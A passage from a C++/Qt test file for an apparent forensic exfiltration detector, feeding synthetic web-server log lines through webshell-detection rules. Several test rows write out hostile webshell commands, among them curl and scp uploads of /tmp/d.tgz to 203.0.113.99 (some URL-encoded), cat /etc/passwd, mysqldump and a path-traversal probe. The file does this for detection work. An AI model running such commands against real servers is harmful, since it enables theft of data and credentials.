            if (part.size() > 5) fixture.sql(QString("INSERT INTO finding_item(finding, place, key) VALUES('f%1', 1, '%2')").arg(number).arg(part[5]).toStdString());
        }
        std::string lines = access_line("198.51.100.7", "/s.php?c=id", 200, 300);
        for (const auto& event : events)
            if (const auto part = event.split(' '); part[0] == "web") lines += access_line(part[3].toStdString(), "/site.zip", 200, part[4].toLongLong());
        const auto log = use_webshell(fixture, lines);
        test::FileSpec site;
        site.path = "/var/www/html/site.zip", site.size = 900'000, site.digests = false;
        fixture.add(site);
        for (const auto& event : events) {
            const auto part = event.split(' ');
            if (part[0] == "web") continue;
            const bool session = part[0] == "file.session";
            const auto arguments = QString(session ? "{\"sent\": %1, \"direction\": \"out\", \"file\": \"www\"}" : "{\"bytes\": %1, \"file\": \"/srv/x.csv\", \"service\": \"ftp\"}").arg(part[4]);
            fixture.event(part[0].toStdString(), k_first_command + part[1].toInt() * 3600, part[2].toStdString(), part[3].toStdString(), arguments.toStdString());
        }
        fixture.sql("UPDATE event SET inode = " + std::to_string(log) + " WHERE inode IS NULL");
        QString got;
        for (const auto& f : fixture.detect("transfers")) {
            QCOMPARE(f.rule, std::string("exfiltration/transfer"));
            QCOMPARE(f.arguments.value("rests_on", ""), std::string("f1"));
            QCOMPARE(f.arguments.value("service", ""), std::string(events.last().startsWith("file.session") ? "" : events.last().startsWith("web") ? "http" : "ftp"));
            got += QStringLiteral("%1 %2 %3 %4").arg(QString::fromStdString(f.subject)).arg(f.severity).arg(f.confidence).arg(f.items.size());
            for (const char* why : {"webshell", "guessed", "made", "taken", "perhaps", "named"})
                if (f.arguments.contains(why)) got += QStringLiteral(" %1=%2").arg(QLatin1String(why), QString::fromStdString(f.arguments[why].get<std::string>()));
        }
        QCOMPARE(got, found);
    }

    // What the address that used a webshell fetched from the site, whatever its name is.
    void fetched_by_an_intruder_data() {
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QString>("found");  // count, bytes in words
        const std::string a = "198.51.100.7", b = "198.51.100.21", c = "198.51.100.22", d = "198.51.100.23";
        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
        const auto everybody = [&](const std::string& path, std::int64_t bytes) { return access_line(b, path, 200, bytes) + access_line(c, path, 200, bytes) + access_line(d, path, 200, bytes) + access_line(a, path, 200, bytes); };
        QTest::newRow("without an ending") << log(access_line(a, "/uploads/x", 200, 52'000'000)) << "1 52.0 MB";
        QTest::newRow("named as a picture") << log(access_line(a, "/logo.png", 200, 52'000'000)) << "1 52.0 MB";
        QTest::newRow("of some kB") << log(access_line(a, "/list.txt", 200, 300'000)) << "1 300 kB";
        QTest::newRow("an archive in pieces") << log(access_line(a, "/k.tgz", 206, 10'000'000) + access_line(a, "/k.tgz", 206, 10'000'000) + access_line(a, "/k.tgz", 206, 4'000'000)) << "3 24.0 MB";
        QTest::newRow("parts of one length") << log(access_line(a, "/k.7z.001", 200, 10'000'000) + access_line(a, "/k.7z.002", 200, 10'000'000) + access_line(a, "/k.7z.003", 200, 10'000'000) + access_line(a, "/k.7z.004", 200, 7'000'000)) << "4 37.0 MB";
        QTest::newRow("a dump that is gone") << log(access_line(a, "/kunden.sql", 200, 300'000)) << "1 300 kB";
        QTest::newRow("an export of an administration") << log(access_line(b, "/phpmyadmin/export.php", 200, 2'000) + access_line(a, "/phpmyadmin/export.php", 200, 5'000'000)) << "1 5.0 MB";
        std::string folder, page;
        for (int i = 0; i < 12; ++i) folder += access_line(a, "/.git/objects/0" + std::to_string(i) + "/ab", 200, 900 + i), page += access_line(a, "/.git/objects/0" + std::to_string(i) + "/ab", 200, 900);
        QTest::newRow("a hidden folder that is gone") << log(folder) << "12 10.8 kB";
        QTest::newRow("a hidden folder that is not there, answered with a page") << log(page) << "";
        QTest::newRow("pages and pictures of the site") << log(everybody("/app.js", 400'000) + everybody("/hero.jpg", 2'000'000) + everybody("/index.php", 9'000)) << "";
        QTest::newRow("names that are not there, answered with a page") << log(access_line(a, "/a.sql", 200, 150'000) + access_line(a, "/b.zip", 200, 150'000)) << "";
        QTest::newRow("refused") << log(access_line(a, "/uploads/x", 403, 52'000'000)) << "";
        QTest::newRow("by another") << log(access_line(b, "/uploads/x", 200, 52'000'000)) << "";
    }
    void fetched_by_an_intruder() {
        QFETCH(QByteArray, log);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fixture.sql("INSERT INTO finding VALUES('f1', 'x', 'webshell/script', 1, 1, '/var/www/html/s.php', 3, 1, '{}', " + std::to_string(k_first_command) + ", 0, 0, NULL, NULL, 0, 0)");
        use_webshell(fixture, access_line("198.51.100.7", "/s.php?c=id", 200, 300) + log.toStdString());
        QString got;
        for (const auto& f : fixture.detect("transfers")) {
            QCOMPARE(f.rule, std::string("exfiltration/transfer"));
            got += QStringLiteral("%1 %2").arg(QString::fromStdString(f.arguments.value("count", "")), QString::fromStdString(f.arguments.value("size", "")));
        }
        QCOMPARE(got, found);
    }

    // A second address that speaks to the shell once: it may be a scanner, or him.
    void a_single_request_to_a_shell_data() {
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QString>("found");  // to whom files are held
        const std::string a = "198.51.100.7", b = "198.51.100.8";
        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
        const auto early = [](std::string line) { return line.replace(line.find("09:00:00"), 8, "08:10:00"); };
        const std::string fetched = access_line(b, "/uploads/d.tgz", 200, 2'000'003);
        std::string used;
        for (const char* command : {"id", "ls+-la", "w", "cat+/etc/passwd"}) used += early(access_line(a, std::string("/s.php?c=") + command, 200, 300));
        QTest::newRow("packs and fetches") << log(used + access_line(b, "/s.php?c=tar+czf+d.tgz+/srv", 200, 300) + fetched) << "198.51.100.8";
        QTest::newRow("speaks as the shell's users do, and fetches") << log(used + access_line(b, "/s.php?c=id", 200, 300) + fetched) << "198.51.100.8";
        QTest::newRow("fetches before it speaks") << log(used + early(fetched) + access_line(b, "/s.php?c=id", 200, 300)) << "";
        QTest::newRow("a scanner's other parameter") << log(used + access_line(b, "/s.php?page=../../etc/passwd", 200, 300) + fetched) << "";
        QTest::newRow("is refused") << log(used + access_line(b, "/s.php?c=id", 403, 300) + fetched) << "";
        QTest::newRow("speaks to another page") << log(used + access_line(b, "/index.php?c=id", 200, 300) + fetched) << "";
        QTest::newRow("fetches nothing") << log(used + access_line(b, "/s.php?c=id", 200, 300)) << "";
    }
    void a_single_request_to_a_shell() {
        QFETCH(QByteArray, log);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fixture.sql("INSERT INTO finding VALUES('f1', 'x', 'webshell/script', 1, 1, '/var/www/html/s.php', 3, 1, '{}', " + std::to_string(k_first_command) + ", 0, 0, NULL, NULL, 0, 0)");
        use_webshell(fixture, log.toStdString());
        QString got;
        for (const auto& f : fixture.detect("transfers"))
            if (f.rule == "exfiltration/transfer") got += QString::fromStdString(f.subject);
        QCOMPARE(got, found);
    }

    // An access log has the command that was given in the query.
    void commands_to_shells_data() {
        QTest::addColumn<QString>("rule");
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QString>("found");  // target severity confidence address
        const std::string a = "198.51.100.7";
        const auto one = [&](const std::string& request, int status = 200) { return QByteArray::fromStdString(access_line(a, request, status, 10)); };
        const char* shell = "webshell/script";
        QTest::newRow("curl") << shell << one("/s.php?c=curl+-F+f=@/tmp/d.tgz+http://203.0.113.99/u") << "203.0.113.99 3 1 198.51.100.7";
        QTest::newRow("scp, encoded") << shell << one("/s.php?x=1&cmd=scp%20/tmp/d.tgz%20x@203.0.113.99:") << "203.0.113.99 3 1 198.51.100.7";
        QTest::newRow("encoded twice") << shell << one("/s.php?c=curl%2520-T%2520/tmp/d.tgz%2520ftp%253A//203.0.113.99/") << "203.0.113.99 3 1 198.51.100.7";
        QTest::newRow("to the network of the server") << shell << one("/s.php?c=scp+/tmp/d.tgz+x@10.0.0.9:") << "10.0.0.9 2 1 198.51.100.7";
        QTest::newRow("refused") << shell << one("/s.php?c=scp+/tmp/d.tgz+x@203.0.113.99:", 404) << "";
        QTest::newRow("fetches and sends nothing") << shell << one("/s.php?c=wget+http://203.0.113.99/x") << "";
        QTest::newRow("a search on an infected page") << "webshell/appended" << one("/s.php?q=scp+/tmp/d.tgz+x@203.0.113.99:") << "203.0.113.99 2 0 198.51.100.7";
        QTest::newRow("a search on another page") << shell << one("/wiki.php?q=scp+/tmp/d.tgz+x@203.0.113.99:") << "";
    }
    void commands_to_shells() {
        QFETCH(QString, rule);
        QFETCH(QByteArray, log);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fixture.sql(QString("INSERT INTO finding VALUES('f1', 'x', '%1', 1, 1, '/var/www/html/s.php', 3, 1, '{}', %2, 0, 0, NULL, NULL, 0, 0)").arg(rule).arg(k_first_command).toStdString());
        use_webshell(fixture, log.toStdString());
        QString got;
        for (const auto& f : fixture.detect("transfers")) {
            QCOMPARE(f.rule, std::string("exfiltration/webshell_command"));
            QCOMPARE(f.arguments["rests_on"].get<std::string>(), std::string("f1"));
            got += QString::fromStdString(f.subject + " " + std::to_string(f.severity) + " " + std::to_string(f.confidence) + " " + f.items.at(0).key);
        }
        QCOMPARE(got, found);
    }

    void shell_answers_data() {
        QTest::addColumn<QString>("rule");
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QString>("found");  // confidence line address
        const std::string a = "198.51.100.7";
        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
        const auto visitors = [](std::int64_t bytes) {
            std::string all;
            for (int i = 1; i < 9; ++i) all += access_line("198.51.100." + std::to_string(i + 20), "/s.php", 200, bytes);
            return all;
        };
        QTest::newRow("small answers") << "webshell/script" << log(access_line(a, "/s.php?c=id", 200, 300) + access_line(a, "/s.php", 200, 90'000)) << "";
        QTest::newRow("a dump") << "webshell/script" << log(access_line(a, "/s.php", 200, 300) + access_line(a, "/s.php?c=mysqldump", 200, 23'000'000)) << "1 2 198.51.100.7";
        QTest::newRow("dumps and nothing else") << "webshell/script" << log(access_line(a, "/s.php", 200, 20'000'000) + access_line(a, "/s.php", 200, 23'000'000)) << "1 2 198.51.100.7";
        QTest::newRow("refused") << "webshell/script" << log(access_line(a, "/s.php", 403, 23'000'000)) << "";
        QTest::newRow("another page") << "webshell/script" << log(access_line(a, "/download.php", 200, 23'000'000)) << "";
        QTest::newRow("a shell that scanners found too") << "webshell/script" << log(visitors(200) + access_line(a, "/s.php", 200, 23'000'000)) << "1 9 198.51.100.7";
        QTest::newRow("an infected page that gives out long files to all") << "webshell/appended" << log(visitors(20'000'000) + access_line(a, "/s.php", 200, 23'000'000)) << "";
        QTest::newRow("an infected page with one long answer") << "webshell/appended" << log(visitors(200) + access_line(a, "/s.php", 200, 23'000'000)) << "0 9 198.51.100.7";
        QTest::newRow("a script that only resembles a shell") << "webshell/resembling" << log(access_line(a, "/s.php", 200, 23'000'000)) << "";
    }
    void shell_answers() {
        QFETCH(QString, rule);
        QFETCH(QByteArray, log);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fixture.sql(QString("INSERT INTO finding VALUES('f1', 'x', '%1', 1, 1, '/var/www/html/s.php', %2, 1, '{}', %3, 0, 0, NULL, NULL, 0, 0)").arg(rule).arg(rule.endsWith("resembling") ? 1 : 3).arg(k_first_command).toStdString());
        use_webshell(fixture, log.toStdString());
        QString got;
        for (const auto& f : fixture.detect("transfers")) {
            QCOMPARE(f.rule, std::string("exfiltration/webshell_answer"));
            QCOMPARE(f.subject, std::string("/var/www/html/s.php"));
            QCOMPARE(f.severity, 3);
            QCOMPARE(f.first_s.value_or(0), k_first_command + 3600);
            QCOMPARE(f.items.at(0).path, std::string("/var/log/apache2/access.log"));
            got += QStringLiteral("%1 %2 %3").arg(f.confidence).arg(f.items.at(0).line.value_or(0)).arg(QString::fromStdString(f.items.at(0).key));
        }
        QCOMPARE(got, found);
    }

    void staged_data() {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("type");
        QTest::addColumn<int>("severity");  // -1: no finding
        QTest::newRow("in a hidden folder") << "/var/tmp/.b/h.tgz" << "application/gzip" << 2;
        QTest::newRow("in /dev/shm") << "/dev/shm/shop.sql" << "text/plain" << 1;
        QTest::newRow("a log in /tmp") << "/tmp/install.log" << "text/plain" << -1;
        QTest::newRow("a private folder of a service") << "/tmp/systemd-private-1-apache2/tmp/x.zip" << "application/zip" << -1;
        QTest::newRow("a dump put into a web root") << "/var/www/html/x/shop.sql" << "text/plain" << 2;
        QTest::newRow("a program's own tables") << "/var/www/html/install/tables.sql" << "text/plain" << -1;
        QTest::newRow("a copy where copies lie") << "/var/backups/shop.sql" << "text/plain" << -1;
    }
    void staged() {
        QFETCH(QString, path);
        QFETCH(QString, type);
        QFETCH(int, severity);
        test::CaseFixture fixture;
        fixture.row("web_root", {std::string_view("/var/www/html"), std::string_view("apache"), std::string_view(""), std::string_view("root"), std::string_view("/"), std::int64_t{0}, std::int64_t{1}, std::int64_t{1}});
        test::FileSpec spec;
        spec.path = path.toStdString(), spec.content_type = type.toStdString(), spec.size = 400'000, spec.digests = false;
        if (!path.contains("/install/")) spec.born = 1'700'000'000 + 30 * 86400;
        fixture.add(spec);
        const auto findings = fixture.detect("exfiltration");
        QCOMPARE(findings.empty() ? -1 : findings[0].severity, severity);
        if (severity >= 0) QCOMPARE(findings[0].confidence, 0);
    }
};
DEADBOX_TEST(ExfiltrationTest)
#include "exfiltration_test.moc"
